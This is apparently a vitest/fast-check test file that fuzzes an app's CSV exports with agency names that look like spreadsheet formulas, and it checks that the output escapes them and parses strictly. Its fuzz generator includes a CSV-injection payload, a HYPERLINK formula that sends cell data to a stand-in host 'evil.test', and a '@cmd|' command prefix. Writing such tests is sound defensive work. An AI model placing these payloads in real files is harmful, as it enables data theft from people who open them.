import fc from 'fast-check'
import { NextRequest } from 'next/server'
import { describe, expect, it } from 'vitest'
import { db } from '@/lib/db'
import { LIVE_FORMULA, liveFormulas, strictParse } from '@/lib/test/csv-checks'
import { TREND_CHARTS } from '@/lib/stats/view-params'
import { GET as agreements } from './agreements/route'
import { GET as chartData } from '../../trends/data/[file]/route'

const req = (path: string) => new NextRequest(new URL(path, 'http://localhost'))

const hostileName = fc
  .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\uFF1D', '=HYPERLINK("http://evil.test/?x="&A1,"click")', '-1+1', '@cmd|', '"', ''), fc.string({ maxLength: 30 }))
  .map(([a, b]) => `${a}${b}`)
  .filter((s) => s.trim().length > 0)

describe('every CSV the app serves, fuzzed', () => {
  it('agreement exports: agency names that look like formulas go out as text, and csv-parse reads every export strictly', async () => {
    const page = await (await agreements(req('/api/v1/agreements?state=TX&status=all&per_page=8'))).json()
    const targets: { id: number }[] = [...new Map(page.items.map((i: { agency: { id: number } }) => [i.agency.id, i.agency])).values()] as { id: number }[]
    await fc.assert(
      fc.asyncProperty(fc.array(hostileName, { minLength: targets.length, maxLength: targets.length }), fc.constantFrom('', '&model=task_force', '&status=all', '&sort=-signed_on'), async (names, extra) => {
        for (const [i, t] of targets.entries()) await db.agency.update({ where: { id: t.id }, data: { name: names[i]! } })
        const res = await agreements(req(`/api/v1/agreements?state=TX&status=all&format=csv${extra}`))
        expect(res.status).toBe(200)
        const rows = strictParse(await res.text())
        expect(liveFormulas(rows)).toEqual([])
        const cells = new Set(rows.map((r) => r[2]))
        for (const n of names) if (extra !== '&model=task_force') expect(cells.has(LIVE_FORMULA.test(n) ? `'${n}` : n)).toBe(true)
      }),
      { numRuns: 6 },
    )
  })

  it('chart CSVs: every chart, both ranges, read strictly with no live formula', async () => {
    for (const chart of TREND_CHARTS)
      for (const q of ['', '?range=full', '?as_of=2012-12-01']) {
        const res = await chartData(req(`/trends/data/${chart}.csv${q}`), { params: Promise.resolve({ file: `${chart}.csv` }) })
        expect(res.status).toBe(200)
        const rows = strictParse(await res.text())
        expect(rows.length).toBeGreaterThan(1)
        expect(liveFormulas(rows)).toEqual([])
      }
  })
})
